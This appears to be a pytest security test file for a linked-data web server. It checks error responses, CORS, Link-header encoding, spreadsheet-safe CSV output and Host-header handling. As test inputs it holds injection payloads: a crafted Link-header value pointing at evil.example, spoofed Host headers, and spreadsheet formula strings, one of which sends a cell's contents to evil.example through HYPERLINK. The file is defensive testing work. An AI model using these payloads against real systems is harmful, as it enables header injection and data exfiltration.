"""The one response path and the issue-17 findings in it, each a test that failed before the fix.

* errors: one body, HTML for browsers and JSON for programs (``GET /nope`` with ``Accept: text/html``);
  CORS_ORIGIN honoured on every route;
* 17.3.7  Link header injection through stored-query parameters;
* 17.3.11 CSV meant for spreadsheets neutralises formula-looking cells; /sparql's text/csv stays W3C;
* 17.3.12 the Host header is never echoed (VoID/DCAT, OpenAPI, redirects), ALLOWED_HOSTS, no versions
  in ``Server``;
* 17.4    every download link answers, from ``kuntakg serve`` started as the README starts it.
"""
from __future__ import annotations

import csv
import hashlib
import http.client
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import urllib.parse
from pathlib import Path

import pytest

pytestmark = [pytest.mark.security]

ROOT = Path(__file__).resolve().parents[1]
KUNTAKG = Path(sys.executable).parent / "kuntakg"
EVIL_LINK = 'x>;rel="next",<https://evil.example/x.css>;rel="stylesheet";a="'
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
FORMULA_TRIG = """@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
GRAPH <https://w3id.org/kuntakg/graph/csv> {
%s
  <https://w3id.org/kuntakg/id/goal/csv/n> skos:prefLabel "-5" , "5 formula" .
}
""" % "\n".join('  <https://w3id.org/kuntakg/id/goal/csv/f%d> skos:prefLabel "%s formula" .' % (i, json.dumps(f)[1:-1])
                for i, f in enumerate(FORMULAS))
LABELS_RQ = """#+ summary: Every label
#+ description: |
#+   Labels, for the CSV test.
#+ tags:
#+   - provenance
#+ x-columns:
#+   label: a label

PREFIX skos: <http://www.w3.org/2004/02/skos/core#>
SELECT ?label WHERE { ?s skos:prefLabel ?label } ORDER BY ?label
"""


def _raw_get(port: int, target: str, headers: dict[str, str]) -> tuple[int, dict[str, str], bytes]:
    """A GET with the request target sent as it is (no client-side quoting) and the given Host."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.putrequest("GET", target, skip_host=True, skip_accept_encoding=True)
        for name, value in headers.items():
            conn.putheader(name, value)
        conn.endheaders()
        r = conn.getresponse()
        return r.status, {k.lower(): v for k, v in r.getheaders()}, r.read()
    finally:
        conn.close()


def _links(header: str) -> list[str]:
    """The URLs of a Link header: what stands between each '<' and its '>'."""
    return re.findall(r"<([^>]*)>", header)


# ------------------------------------------------------------------ errors and CORS

def test_unknown_path_is_html_for_browsers_and_json_for_programs(site_client):
    browser = site_client.get("/nope", headers={"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"})
    assert browser.status_code == 404 and browser.mimetype == "text/html"
    assert "<html" in browser.get_data(as_text=True)
    for accept in ("application/json", "*/*", None):
        r = site_client.get("/nope", headers={"Accept": accept} if accept else {})
        assert r.status_code == 404 and r.mimetype == "application/json", accept
        assert r.json["ok"] is False and r.json["status"] == 404 and r.json["errors"] == [r.json["error"]]


def test_every_error_has_the_same_body(site_client):
    bodies = [site_client.get("/api/queries/nope.json"), site_client.get("/resource"),
              site_client.get("/sparql", query_string={"query": "SELECT"}), site_client.post("/api/queries"),
              site_client.get("/", headers={"Accept": "image/png"})]
    for r in bodies:
        assert r.mimetype == "application/json", (r.request.path, r.data[:200])
        assert set(r.json) >= {"ok", "error", "errors", "status"} and r.json["status"] == r.status_code


@pytest.mark.parametrize("origin", ["https://research.example", ""])
def test_cors_origin_is_honoured_on_every_route(seed_build, origin):
    from server import create_app

    app = create_app({"KUNTAKG_DATA": str(seed_build.out / "kuntakg.trig"), "ISOLATION": "thread",
                      "CORS_ORIGIN": origin, "TESTING": True})
    try:
        client = app.test_client()
        for path in ("/api/openapi.json", "/api/queries.json", "/api/queries/documents.csv", "/compare.json",
                     "/index.json", "/sparql?query=ASK%7B%7D", "/nope", "/.well-known/void.ttl"):
            r = client.get(path)
            assert r.headers.get("Access-Control-Allow-Origin") == (origin or None), (path, r.headers)
    finally:
        app.extensions["kuntakg"].close()


# ------------------------------------------------------------------ 17.3.7 Link header injection

@pytest.mark.live
def test_stored_query_parameters_cannot_inject_links(seed_live):
    port = int(urllib.parse.urlsplit(seed_live.url).port or 0)
    status, headers, _ = _raw_get(port, "/api/queries/goal-cascade.json?town=" + EVIL_LINK,
                                  {"Host": "127.0.0.1:%d" % port})
    assert status in (200, 400)
    link = headers.get("link", "")
    urls = _links(link)
    assert not any(u.startswith("https://evil.example") for u in urls), link
    assert all('"' not in u and " " not in u for u in urls), link
    if status == 200:  # the twins still carry the value, encoded
        assert len(urls) == 3 and all(u.startswith("/api/queries/goal-cascade.") for u in urls), link


def test_link_urls_are_encoded():
    from server.response import link_url

    assert link_url('/a?town=x>;rel="next",<https://e/x>') == "/a?town=x%3E;rel=%22next%22,%3Chttps://e/x%3E"
    assert link_url("/id/goal/d/g1.ttl?iri=https%3A%2F%2Fx") == "/id/goal/d/g1.ttl?iri=https%3A%2F%2Fx"
    assert link_url("/search.csv?q=äö ü") == "/search.csv?q=%C3%A4%C3%B6%20%C3%BC"


# ------------------------------------------------------------------ 17.3.11 CSV for spreadsheets

@pytest.fixture(scope="module")
def formula_app(tmp_path_factory):
    from server import create_app

    folder = tmp_path_factory.mktemp("formulas")
    (folder / "data.trig").write_text(FORMULA_TRIG, encoding="utf-8")
    (folder / "queries").mkdir()
    (folder / "queries" / "labels.rq").write_text(LABELS_RQ, encoding="utf-8")
    app = create_app({"KUNTAKG_DATA": str(folder / "data.trig"), "QUERIES_DIR": str(folder / "queries"),
                      "ISOLATION": "thread", "TESTING": True})
    yield app
    app.extensions["kuntakg"].close()


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def test_spreadsheet_csv_neutralises_formulas(formula_app):
    client = formula_app.test_client()
    stored = client.get("/api/queries/labels.csv")
    search = client.get("/search.csv", query_string={"q": "formula"})
    for r in (stored, search):
        assert r.status_code == 200, r.data[:300]
        cells = _cells(r.get_data(as_text=True))
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
                    or (c.startswith("-") and c != "-5")], cells
        for formula in FORMULAS:  # every label is there, as text
            assert "'%s formula" % formula in cells, (formula, cells)
    labels = _cells(stored.get_data(as_text=True))[1:]
    assert "-5" in labels and "5 formula" in labels  # a number stays a number, other text as it is


def test_spreadsheet_cell_rule():
    from server.response import spreadsheet_cell

    for formula in FORMULAS:
        assert spreadsheet_cell(formula) == "'" + formula
    for plain in ("-5", "+3.25", "-1e3", "x=1", "", "Pori", None, 12):
        assert spreadsheet_cell(plain) == ("" if plain is None else str(plain))


def test_sparql_csv_stays_w3c(formula_app):
    q = "SELECT ?l WHERE { ?s <http://www.w3.org/2004/02/skos/core#prefLabel> ?l FILTER(STRSTARTS(?l, \"=\")) }"
    client = formula_app.test_client()
    data = client.post("/sparql", data={"query": "SELECT ?l WHERE { VALUES ?l { \"=1+1\" \"@x\" } }"},
                       headers={"Accept": "text/csv"}).get_data(as_text=True)
    assert data == "l\r\n=1+1\r\n@x\r\n"
    assert client.post("/sparql", data={"query": q}, headers={"Accept": "text/csv"}).status_code == 200


# ------------------------------------------------------------------ 17.3.12 Host header

def test_allowed_hosts(seed_build):
    from server import create_app

    app = create_app({"KUNTAKG_DATA": str(seed_build.out / "kuntakg.trig"), "ISOLATION": "thread",
                      "ALLOWED_HOSTS": ["kuntakg.example", "127.0.0.1"], "TESTING": True})
    try:
        client = app.test_client()
        assert client.get("/index.json", base_url="http://kuntakg.example").status_code == 200
        assert client.get("/index.json", base_url="http://127.0.0.1:8000").status_code == 200
        evil = client.get("/index.json", base_url="http://evil.example")
        assert evil.status_code == 400 and "evil.example" not in evil.get_data(as_text=True)
    finally:
        app.extensions["kuntakg"].close()


def test_openapi_and_void_name_the_public_base(site_client):
    spec = site_client.get("/api/openapi.json", base_url="http://evil.example").json
    assert spec["servers"] == [{"url": "https://w3id.org/kuntakg"}]
    void = site_client.get("/.well-known/void.ttl", base_url="http://evil.example").get_data(as_text=True)
    assert "evil.example" not in void and "https://w3id.org/kuntakg/sparql" in void


# ------------------------------------------------------------------ 17.4 downloads, as the README serves

@pytest.fixture(scope="module")
def readme_server(seed_build, tmp_path_factory):
    """`kuntakg serve` in a subprocess, cwd = a project root whose dist/ is the seed build, no --data."""
    root = tmp_path_factory.mktemp("project-root")
    shutil.copytree(seed_build.out, root / "dist")
    env = {k: v for k, v in os.environ.items() if not k.startswith("KUNTAKG_")}
    proc = subprocess.Popen([str(KUNTAKG), "serve", "--port", "0", "--workers", "2"], cwd=root, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    try:
        line = proc.stdout.readline()  # printed once the server listens
        assert "http://127.0.0.1:" in line, line + proc.stderr.read()
        url = next(w for w in line.split() if w.startswith("http://"))
        yield int(urllib.parse.urlsplit(url).port or 0), root
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        proc.wait(20)


@pytest.mark.live
def test_every_download_link_answers(readme_server):
    port, root = readme_server
    host = {"Host": "127.0.0.1:%d" % port}
    status, _, body = _raw_get(port, "/downloads/index.json", {**host, "Accept": "application/json"})
    assert status == 200
    files = json.loads(body)["files"]
    assert {f["name"] for f in files} >= {"kuntakg.trig", "kuntakg.nq", "kuntakg.jsonld"}
    status, _, page = _raw_get(port, "/downloads/", {**host, "Accept": "text/html"})
    hrefs = set(re.findall(r'href="(/downloads/[^"#?]+)"', page.decode()))
    assert hrefs >= {"/downloads/" + f["name"] for f in files} | {"/downloads/" + f["gz_name"] for f in files}
    for href in sorted(hrefs):
        status, headers, data = _raw_get(port, href, host)
        assert status == 200, (href, data[:300])
        name = href.rsplit("/", 1)[-1]
        info = next((f for f in files if name in (f["name"], f["gz_name"])), None)
        if info is not None:
            expected = info["gz_sha256"] if name.endswith(".gz") else info["sha256"]
            assert hashlib.sha256(data).hexdigest() == expected, href
            if not name.endswith(".gz"):
                assert data == (root / "dist" / name).read_bytes()


@pytest.mark.live
def test_dev_server_never_echoes_the_host(readme_server):
    port, _ = readme_server
    evil = {"Host": "evil.example"}
    status, headers, _ = _raw_get(port, "/downloads", evil)
    assert status in (301, 308) and headers["location"] == "/downloads/", headers
    for target in ("/.well-known/void.ttl", "/.well-known/void.jsonld", "/api/openapi.json"):
        status, headers, body = _raw_get(port, target, evil)
        assert status == 200 and b"evil.example" not in body, target
    status, headers, _ = _raw_get(port, "/", evil)
    assert not re.search(r"\d", headers.get("server", "")), headers.get("server")


def test_dataset_description_cache_does_not_grow_with_hosts(site_client):
    """20 Host values made 20 cached graphs; the cache is keyed by the settings and bounded."""
    from server.site import dataset

    before = len(dataset._void_cache)
    bodies = {site_client.get("/.well-known/void.ttl", base_url="http://h%d.example" % i).data for i in range(20)}
    assert len(bodies) == 1
    assert len(dataset._void_cache) - before <= 1 and len(dataset._void_cache) <= dataset._void_cache.size
    cache = dataset.BoundedCache(2)
    for key in "abc":
        cache.put(key, key.upper())
    assert len(cache) == 2 and cache.get("a") is None and cache.get("c") == "C"
